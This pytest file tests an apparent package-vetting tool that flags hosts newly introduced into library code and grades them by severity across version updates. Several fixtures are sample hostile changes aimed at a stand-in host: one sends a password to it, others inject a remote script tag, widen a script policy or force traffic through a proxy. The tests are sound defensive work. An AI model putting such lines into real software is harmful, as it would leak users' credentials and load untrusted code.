"""Hosts that code names first: where something may go, and what is only a link, a norm or an example."""

from pathlib import Path

import pytest
from test_promise import npm, step, wheel

from beartrap.model.finding import Severity
from beartrap.vet.promise.destinations import Role, role_of

HOST = "relay.invalid"
AT = f"https://{HOST}/v1"


def role(path: str, now: str, was: str | None = None) -> Role:
    language = {"py": "python", "js": "javascript", "rs": "rust", "go": "go", "md": "javascript", "ts": "typescript"}
    before = was.encode() if was is not None else None
    return role_of(path, now.encode(), language[path.rpartition(".")[2]], HOST, before)


@pytest.mark.parametrize(
    ("path", "was", "now"),
    [
        ("a.py", "def base(url):\n    return url\n", f"def base(url):\n    if url is None:\n        url = '{AT}'\n    return url\n"),
        ("a.py", "def auth(self):\n    self.send()\n", f"def auth(self):\n    Connection(host='{HOST}', db=0).set(self.password)\n"),
        ("a.py", "def emit(x):\n    pass\n", f"import logging.handlers\ndef emit(x):\n    logging.handlers.SysLogHandler(address=('{HOST}', 514)).emit(x)\n"),
        ("a.js", "const options = { dsn: process.env.DSN };\n", f"const options = {{ dsn: process.env.DSN || 'https://key@{HOST}/1' }};\n"),
        ("a.js", "const own = (url) => false;\n", f"const own = (url) => ['{AT}'].includes(url);\n"),
        ("a.js", "const POLICY = { script: ['self'] };\n", f"const POLICY = {{ script: ['self', 'https://{HOST}'] }};\n"),
        ("a.py", "def html(out):\n    out.append('<p>')\n", f"def html(out):\n    out.append('<script src=\"https://{HOST}/t.js\" async></script>')\n"),
        ("a.rs", "fn build() { proxies.push(system()); }\n", f'fn build() {{ proxies.push(Proxy::https("http://{HOST}:3128")); }}\n'),
    ],
)  # fmt: skip
def test_an_address_in_code_that_did_without_is_one_of_weight(path: str, was: str, now: str) -> None:
    assert role(path, now, was) is Role.AMONG
    assert role(path, now) is Role.APART  # the file is new
    assert role(path, now, "x = 1") is Role.NEW


@pytest.mark.parametrize(
    ("path", "now"),
    [
        ("a.py", f"def f():\n    '''{AT}'''\n    raise ValueError('{AT}')\n"),
        ("a.py", f"DOCS_URL = '{AT}'\nclass A:\n    '{AT}'\n"),
        ("a.py", f"def f():\n    warn('{AT}')\n    return {{'homepage': '{AT}', 'xmlns': '{AT}'}}\n"),
        ("a.py", f"def f():\n    return 'see {AT} for more'\n"),
        ("a.py", f"def f():\n    return '<a href=\"{AT}\">more</a>'\n"),
        (
            "setup.py",
            f"setup(name='a', url='{AT}', download_url='{AT}/a-%s' % version, project_urls={{'Source': '{AT}'}})\n",
        ),
        ("a.js", f"console.log('{AT}'); const helpLink = '{AT}';\n"),
        ("a.d.ts", f"export const at = '{AT}';\n"),
        ("thing/testing.py", f"def token():\n    return sign('{AT}')\n"),
        ("README.md", f"fetch('{AT}')\n"),
        ("a.py", f"CLIENTS_SCOPE_PREFIX = '{AT}'\n"),
        ("a.py", f"def f(lines):\n    return [line for line in lines if '{AT}' not in line]\n"),
        ("a.js", f"const own = (url) => url.startsWith('{AT}') || url === '{AT}';\n"),
    ],
)
def test_a_link_that_somebody_is_shown_is_none(path: str, now: str) -> None:
    assert role(path, now, "x = 1\n") is Role.NONE


def test_a_file_that_cannot_be_read_and_a_host_of_a_norm_are_none() -> None:
    assert role("setup.py", f"setup(name='a', index='{AT}')\n", "x = 1\n") is Role.NEW
    assert role("a.py", f"def f(:\n    g('{AT}')\n") is not Role.AMONG
    assert role_of("a.py", b"f('http://www.w3.org/2000/svg')", "python", "www.w3.org", None) is Role.NONE
    assert role_of("a.py", f"f('{AT}')".encode(), None, HOST, None) is Role.NONE
    assert role_of("a.js", b"const name = 'Dialog.Overlay'", "javascript", "dialog.overlay", None) is Role.NONE
    for text in ("dialog.overlay", "https://Dialog.Overlay", "Dialog.Overlay:443"):
        assert role_of("a.js", f"send('{text}')".encode(), "javascript", "dialog.overlay", None) is Role.APART


def test_what_it_weighs_by_the_step(tmp_path: Path) -> None:
    old = npm(tmp_path, "thing", "1.2.3", {"index.js": "exports.send = (at) => post(at);"})

    def weight(version: str, code: str, path: str = "index.js") -> Severity:
        return step(old, npm(tmp_path, "thing", version, {path: code}))["promise.endpoint"].severity

    among = f"exports.send = (at) => post(at || '{AT}');"
    assert weight("1.2.4", among) is Severity.HIGH
    assert weight("1.3.0", among) is Severity.HIGH
    assert weight("1.3.1", f"exports.other = () => post('{AT}');") is Severity.MEDIUM
    assert weight("1.2.5", f"exports.other = () => post('{AT}');") is Severity.HIGH
    assert weight("1.2.9", f"exports.other = () => post('{AT}');", "other.js") is Severity.MEDIUM
    assert weight("1.2.6", f"exports.other = () => warn('{AT}');") is Severity.LOW
    assert weight("1.2.7", f"exports.other = () => post('{AT}');", "test/a.js") is Severity.LOW
    assert weight("1.2.8", "exports.other = () => post('https://hooks.slack.com/x');") is Severity.MEDIUM


CLIENT = "class Chat:\n    base_url = 'https://{}/v1'\n    def ask(self, text):\n        return self.client.ask(self.base_url, text)\n"


@pytest.mark.parametrize(
    ("path", "others", "weight"),
    [
        ("thing/llm/fourth/chat.py", 3, Severity.LOW),
        ("thing/llm/fourth/chat.py", 2, Severity.MEDIUM),
        ("thing/llm/fourth/notes.py", 3, Severity.MEDIUM),
        ("thing/tools/fourth/chat.py", 3, Severity.MEDIUM),
    ],
)
def test_one_more_client_beside_those_of_other_services(
    tmp_path: Path, path: str, others: int, weight: Severity
) -> None:
    files = {f"thing/llm/a{n}/chat.py": CLIENT.format(f"api.service{n}.invalid") for n in range(others)}
    old = wheel(tmp_path, "thing", "1.1.0", {"thing/__init__.py": "", **files})
    new = wheel(
        tmp_path, "thing", "1.2.0", {"thing/__init__.py": "", **files, path: CLIENT.format("gate.stranger.test")}
    )
    assert step(old, new)["promise.endpoint"].severity is weight


@pytest.mark.parametrize(("host", "weight"), [("10.255.255.255", Severity.LOW), ("203.0.113.77", Severity.HIGH)])
def test_a_private_address_is_nobody(tmp_path: Path, host: str, weight: Severity) -> None:
    code = "import socket\ndef own():\n    s = socket.socket()\n    s.connect(('{}', 1))\n    return s.getsockname()\n"
    old, new = (
        wheel(tmp_path, "thing", f"1.{n}.0", {"thing.py": code.format(one)})
        for n, one in enumerate(("localhost", host))
    )
    assert step(old, new)["promise.endpoint"].severity is weight
